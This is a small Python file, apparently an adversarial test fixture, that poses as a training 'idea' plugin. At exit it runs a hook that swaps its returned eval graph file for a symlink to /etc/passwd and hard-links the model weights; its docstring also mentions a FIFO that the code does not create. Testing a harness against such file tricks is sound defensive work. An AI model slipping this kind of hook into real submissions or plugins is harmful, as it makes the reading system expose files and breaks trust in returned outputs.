"""At exit: eval_0.graph.json becomes a symlink to /etc/passwd, the weights a hard link,
result.json a FIFO behind a symlink (a reader that follows links or blocks on a FIFO loses)."""
import atexit
import os

from trainer.ideas.base import Idea


def _swap():
    out = "/sandbox/out"
    os.replace(f"{out}/eval_0.graph.json", f"{out}/real.graph.json")
    os.symlink("/etc/passwd", f"{out}/eval_0.graph.json")
    os.link(f"{out}/eval_0.weights.safetensors", f"{out}/copy.safetensors")


atexit.register(_swap)


class Symlink(Idea):
    pass


IDEA = Symlink(name="symlink_graph", title="Returned files are symlinks and a FIFO", category="training-dynamics",
    pitch="At exit: eval_0.graph.json becomes a symlink to /etc/passwd, the weights a hard link,", math="x",
    why_it_might_work="It looks like an ordinary idea.", why_it_might_not="It is an attack.", references=[])
